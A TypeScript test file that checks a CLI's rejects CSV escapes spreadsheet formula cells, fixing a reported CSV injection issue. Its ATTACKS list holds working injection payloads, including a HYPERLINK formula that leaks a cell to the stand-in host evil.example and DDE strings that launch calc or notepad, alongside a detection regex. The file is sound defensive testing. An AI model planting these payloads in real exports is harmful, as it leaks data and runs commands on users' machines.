// Issue #14: `--skip-invalid rejects.csv` wrote cells such as `=HYPERLINK(…)` and `+cmd|calc`
// unescaped, and HR opens that file in a spreadsheet (CSV formula injection). A cell that a
// spreadsheet would run — beginning with =, +, -, @, a tab or a carriage return, or their
// full-width forms — is now written with a leading `'`, inside double quotes (OWASP). A plain
// number such as -5 is data, and stays as it is. Dropping the one leading `'` gives the cell back.
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { cliStoreForSuite } from './cli-store.ts';

const { tmp, cli } = cliStoreForSuite();

const ATTACKS = [
  '=HYPERLINK("http://evil.example/?leak="&A1,"Click for bonus")',
  "+cmd|' /C calc'!A0",
  '-2+3+cmd|\' /C notepad\'!A0',
  '@SUM(1+1)*cmd|\' /C calc\'!A0',
  '\t=1+1',
  '\r=1+1',
  '＝1+1',
  '＋cmd|calc',
  '－1+1',
  '＠SUM(A1)',
];

/** What a spreadsheet would run: a cell that starts a formula and is not a plain number. */
const RUNS = /^[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/;
const NUMBER = /^[+-]?(\d+\.?\d*|\.\d+)([eE][+-]?\d+)?$/;

describe('the rejects file of --skip-invalid', () => {
  it('neutralises every cell a spreadsheet would run, keeps plain numbers, and loses nothing', async () => {
    // Each attack sits in a valid `name`; the row is rejected for its e-mail, so it goes to the rejects file.
    const rows = ATTACKS.map((a, i) => [`X${i}`, a, 'not-an-email']);
    const csv = (cells: string[]) => cells.map((c) => `"${c.replace(/"/g, '""')}"`).join(',');
    const file = tmp.file('attacks.csv', ['id,name,email', 'X-ok,Fine,fine@example.com', ...rows.map(csv)].join('\r\n') + '\r\n');
    const rejects = join(tmp.dir, 'rejects.csv');
    const r = cli.run(['employees', file, '--skip-invalid', rejects]);
    expect(r.code).toBe(1);
    expect(r.stdout).toMatch(new RegExp(`read ${ATTACKS.length + 1}, left out by skip rules 0, invalid ${ATTACKS.length}[\\s\\S]*inserted 1,`));

    const text = readFileSync(rejects, 'utf8');
    // As written, byte for byte: the first attack is quoted and starts with a quote mark.
    expect(text.split('\r\n')[1]).toBe(`X0,"'=HYPERLINK(""http://evil.example/?leak=""&A1,""Click for bonus"")",not-an-email,3,email,APPRAISE_IMPORT_INVALID_ROW,\`not-an-email\` is not an e-mail address`);
    const parsed = parse(text, { relax_column_count: false }) as string[][];
    expect(parsed[0]).toEqual(['id', 'name', 'email', 'reject_line', 'reject_column', 'reject_code', 'reject_reason']);
    const body = parsed.slice(1);
    expect(body).toHaveLength(ATTACKS.length);
    // A line break inside a quoted cell (`\r=1+1`) moves the rows after it one line down.
    let line = 3;
    body.forEach((cells, i) => {
      // No cell of the file starts a formula…
      for (const c of cells) expect(RUNS.test(c) && !NUMBER.test(c), JSON.stringify(c)).toBe(false);
      // …and the attack is there, behind one added quote mark.
      expect(cells[1]).toBe(`'${ATTACKS[i]}`);
      expect(cells[1].slice(1)).toBe(ATTACKS[i]);
      expect(cells[3]).toBe(String(line));
      line += 1 + (ATTACKS[i].match(/\r\n|\r|\n/g) ?? []).length;
    });
  });

  it('a plain negative number stays as it is (the reason it was rejected stays readable)', () => {
    cli.run(['employees', tmp.file('staff.csv', 'id,name\nE1,Ada\n')]);
    const rejects = join(tmp.dir, 'numbers-rejects.csv');
    const r = cli.run(['records', 'ticket', tmp.file('tickets.csv', 'employeeId,occurredAt,openedAt,contactsToResolve,channel\nE1,2021-03-01T09:00:00Z,2021-03-01T09:00:00Z,-1,@phone\n'), '--skip-invalid', rejects]);
    expect(r.code).toBe(1);
    const [, row] = parse(readFileSync(rejects, 'utf8')) as string[][];
    expect(row.slice(0, 5)).toEqual(['E1', '2021-03-01T09:00:00Z', '2021-03-01T09:00:00Z', '-1', "'@phone"]);
    expect(row[7]).toBe('APPRAISE_IMPORT_INVALID_ROW');
  });
});
